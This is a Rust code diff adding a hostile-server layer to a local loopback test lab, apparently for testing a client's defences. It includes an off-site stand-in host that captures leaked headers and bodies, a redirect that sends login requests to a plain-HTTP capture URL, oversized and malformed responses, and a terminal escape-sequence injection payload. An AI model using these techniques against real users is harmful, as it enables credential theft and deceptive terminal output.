@@ -5,6 +5,7 @@
 pub mod django;
 pub mod dns;
 pub mod frontend;
+pub mod hostile;
 pub mod pki;
 pub mod scenarios;
 pub mod server;
@@ -33,6 +34,10 @@ pub const PROXY_IP: Ipv4Addr = Ipv4Addr::new(127, 0, 0, 1);
 pub const NS2_IP: Ipv4Addr = Ipv4Addr::new(127, 0, 0, 2);
 /// Where "not TLS" hosts are served (plain HTTP on the HTTPS port).
 pub const PLAIN_ON_TLS_IP: Ipv4Addr = Ipv4Addr::new(127, 0, 0, 3);
+/// Where a hostile API host is served.
+pub const HOSTILE_IP: Ipv4Addr = Ipv4Addr::new(127, 0, 0, 6);
+/// Another site, for off-site redirects.
+pub const EVIL_HOST: &str = "evil.lab.test";
 
 #[derive(Debug, Clone, Default)]
 pub struct LabOptions {
@@ -52,6 +57,8 @@ pub struct LabState {
     /// Refresh-token ids blacklisted after rotation (simplejwt's token_blacklist app).
     pub blacklist: Mutex<std::collections::HashSet<String>>,
     pub intermediate_der: Vec<u8>,
+    /// What reached the off-site capture endpoint (method, headers, body), for leak tests.
+    pub captured: Mutex<Vec<String>>,
 }
 
 impl LabState {
@@ -85,6 +92,9 @@ pub async fn route(state: &LabState, req: LabRequest) -> http::Response<server::
             state.intermediate_der.clone(),
         );
     }
+    if let Some(resp) = hostile_http(state, &req) {
+        return resp;
+    }
     if !req.https && state.scenario.http_redirect && !state.scenario.not_tls.contains(&req.host) {
         // SECURE_SSL_REDIRECT / the proxy's HTTP→HTTPS redirect.
         let mut loc = format!("{}{}", state.https_url(&req.host), req.path);
@@ -112,6 +122,101 @@ pub async fn route(state: &LabState, req: LabRequest) -> http::Response<server::
             ),
         )
     }
+}
+
+/// The hostile HTTP layer in front of the apps (scenarios `hostile-*`).
+fn hostile_http(state: &LabState, req: &LabRequest) -> Option<http::Response<server::Body>> {
+    let h = &state.scenario.hostile_http;
+    let s = &state.scenario;
+    let is_api = req.host == s.names.api;
+    let is_front = req.host == s.names.apex || s.names.www.as_deref() == Some(req.host.as_str());
+    if req.host == EVIL_HOST {
+        let mut seen = format!("{} {}", req.method, req.path);
+        for (n, v) in &req.headers {
+            seen.push_str(&format!(" {}={}", n, String::from_utf8_lossy(v.as_bytes())));
+        }
+        seen.push_str(&format!(" body={}", String::from_utf8_lossy(&req.body)));
+        state.captured.lock().unwrap().push(seen);
+        return Some(server::respond(
+            200,
+            &[("content-type", "text/plain".into())],
+            "captured",
+        ));
+    }
+    if h.huge
+        && req.https
+        && ((is_api && req.path == "/health/")
+            || (is_front && (req.path == "/" || req.path == frontend::BUNDLE_PATH)))
+    {
+        let ct = if is_api {
+            "application/json"
+        } else if req.path == "/" {
+            "text/html"
+        } else {
+            "application/javascript"
+        };
+        return Some(server::respond_stream(200, ct, 1 << 30));
+    }
+    if h.redirect_loop
+        && req.https
+        && req.method != http::Method::OPTIONS
+        && (is_api || (is_front && req.path == "/"))
+    {
+        let next = if req.path.ends_with("/loop/") {
+            req.path.trim_end_matches("loop/").to_string()
+        } else {
+            format!("{}loop/", req.path)
+        };
+        return Some(server::respond(302, &[("location", next)], ""));
+    }
+    if h.offsite && req.https && is_api && req.method != http::Method::OPTIONS {
+        let loc = format!("{}{}", state.https_url(EVIL_HOST), req.path);
+        return Some(server::respond(307, &[("location", loc)], ""));
+    }
+    if h.login_to_http
+        && is_api
+        && req.method == http::Method::POST
+        && req.path.ends_with("/auth/login/")
+    {
+        let loc = format!("http://{EVIL_HOST}:{}/capture", state.http_port);
+        return Some(server::respond(307, &[("location", loc)], ""));
+    }
+    if let (Some(bad), true) = (
+        h.bad_json,
+        is_api && req.method == http::Method::POST && req.path.ends_with("/auth/login/"),
+    ) {
+        let body: Vec<u8> = match bad {
+            scenarios::BadJson::Invalid => {
+                b"{\"access\": \"eyJ0eXAi, \"refresh\": }<html>".to_vec()
+            }
+            scenarios::BadJson::Huge => {
+                let mut v = b"{\"padding\": \"".to_vec();
+                v.extend(std::iter::repeat_n(b'x', 10 * 1024 * 1024));
+                v.extend_from_slice(b"\", \"access\": \"x\"}");
+                v
+            }
+            scenarios::BadJson::WrongType => {
+                b"{\"access\": 12345, \"refresh\": [\"not\", \"a\", \"token\"]}".to_vec()
+            }
+        };
+        return Some(server::respond(
+            200,
+            &[("content-type", "application/json".into())],
+            body,
+        ));
+    }
+    if h.escape && req.https && is_api && req.method != http::Method::OPTIONS {
+        let body = serde_json::json!({"detail": "\u{1b}]0;pwned\u{7}\u{1b}[2J\u{1b}[31mYOU HAVE BEEN HACKED\u{1b}[0m\r\u{8}\u{8}ok", "code": "\u{1b}]8;;http://evil.example/\u{7}click\u{1b}]8;;\u{7}"});
+        return Some(server::respond(
+            418,
+            &[
+                ("content-type", "application/json".into()),
+                ("server", "nginx\u{9b}31m".into()),
+            ],
+            serde_json::to_vec(&body).unwrap_or_default(),
+        ));
+    }
+    None
 }
 
 /// A running lab.
@@ -162,6 +267,27 @@ impl Lab {
             let kind = s.certs.get(&host).cloned().unwrap_or_default();
             by_host.insert(host.clone(), ca.issue(&host, &kind)?.certified_key());
         }
+        by_host.insert(
+            EVIL_HOST.to_string(),
+            ca.issue(EVIL_HOST, &pki::CertKind::Good)?.certified_key(),
+        );
+        let hostile_tls = match s.hostile {
+            Some(_) => {
+                let key = ca
+                    .issue(&s.names.api, &pki::CertKind::Good)?
+                    .certified_key();
+                let mut m = HashMap::new();
+                m.insert(s.names.api.clone(), Arc::clone(&key));
+                let mut cfg = (*server::tls_config(server::SniCerts {
+                    by_host: m,
+                    default: Some(key),
+                }))
+                .clone();
+                cfg.alpn_protocols = vec![b"http/1.1".to_vec()];
+                Some(Arc::new(cfg))
+            }
+            None => None,
+        };
         let tls = server::tls_config(server::SniCerts {
             by_host,
             default: None,
@@ -178,6 +304,7 @@ impl Lab {
             handshakes: Mutex::default(),
             blacklist: Mutex::default(),
             intermediate_der: ca.intermediate_der().to_vec(),
+            captured: Mutex::default(),
         });
 
         let mut tasks = Vec::new();
@@ -194,6 +321,15 @@ impl Lab {
                     "lab: cannot bind 127.0.0.3 (the lab needs the 127.0.0.0/8 loopback range)",
                 )?;
             tasks.push(tokio::spawn(server::serve_http(Arc::clone(&state), plain)));
+        }
+
+        if let (Some(kind), Some(cfg)) = (s.hostile, hostile_tls) {
+            let l = hostile::bind(SocketAddr::new(IpAddr::V4(HOSTILE_IP), https_port))
+                .await
+                .context(
+                    "lab: cannot bind 127.0.0.6 (the lab needs the 127.0.0.0/8 loopback range)",
+                )?;
+            tasks.push(tokio::spawn(hostile::serve(l, kind, cfg)));
         }
 
         // DNS: the primary (resolver and ns1) and a secondary (ns2) on the same port.
@@ -309,6 +445,13 @@ impl Lab {
                 "--websocket" => run.websocket = run.websocket.take().or(it.next().cloned()),
                 "--frontend" => run.frontend.extend(it.next().cloned()),
                 "--no-credentials" => run.no_credentials = true,
+                "--timeout" => {
+                    if let Some(t) = it.next().and_then(|t| t.parse().ok()) {
+                        if run.timeout == 10.0 {
+                            run.timeout = t;
+                        }
+                    }
+                }
                 _ => {}
             }
         }
@@ -431,10 +574,21 @@ fn zone_data(s: &Scenario) -> (dns::DnsData, dns::DnsData) {
     for host in s.https_hosts() {
         let ip = if s.not_tls.contains(&host) {
             PLAIN_ON_TLS_IP
+        } else if s.hostile.is_some() && host == s.names.api {
+            HOSTILE_IP
         } else {
             PROXY_IP
         };
         d.add(&host, ttl, Rr::A(ip));
+    }
+    d.add(EVIL_HOST, ttl, Rr::A(PROXY_IP));
+    if let Some((head, n)) = &s.dns.long_chain {
+        let link = |i: usize| format!("c{i}.chain.{apex}");
+        d.set(head, ttl, vec![Rr::Cname(dns::fqdn(&link(1)))]);
+        for i in 1..*n {
+            d.set(&link(i), ttl, vec![Rr::Cname(dns::fqdn(&link(i + 1)))]);
+        }
+        d.set(&link(*n), ttl, vec![Rr::A(PROXY_IP)]);
     }
     if let Some(target) = &s.dns.api_cname {
         d.set(&s.names.api, ttl, vec![Rr::Cname(dns::fqdn(target))]);
